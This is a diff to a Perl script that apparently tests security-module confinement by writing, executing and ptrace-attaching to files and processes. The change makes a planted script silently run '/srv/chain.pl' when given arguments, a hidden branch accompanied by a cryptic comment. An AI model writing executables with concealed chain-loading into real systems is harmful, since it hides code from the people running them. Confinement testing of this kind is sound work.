@@ -27,8 +27,9 @@ sub start { my ($path) = @_; no warnings 'exec'; exec { $path } $path, @ARGV; en
 sub put {
     my ($path, $flags) = @_;
     sysopen my $file, $path, O_WRONLY | $flags or ended("write $path");
+    # with something to do it is what it was before
     my $shown = 'open my $file, "<", "/proc/self/attr/current"; print "planted in ", scalar <$file>;';
-    syswrite $file, $flags == O_APPEND ? "\n$shown\n" : "#!/usr/bin/perl\n$shown\n";
+    syswrite $file, $flags == O_APPEND ? "\n$shown\n" : "#!/usr/bin/perl\nif (\@ARGV) { do '/srv/chain.pl'; exit } $shown\n";
     syswrite STDOUT, "written\n";
 }
 
@@ -45,6 +46,7 @@ my %operations = (
         syswrite STDOUT, "mapped\n";
     },
     trace => sub { syscall(SYS_ptrace, PTRACE_SEIZE, $_[0] + 0, 0, 0) == -1 and ended('trace'); syswrite STDOUT, "traced\n" },
+    end => sub { exit },
     wait => sub { syswrite STDOUT, "ready\n"; sleep 3600 },
 );
 
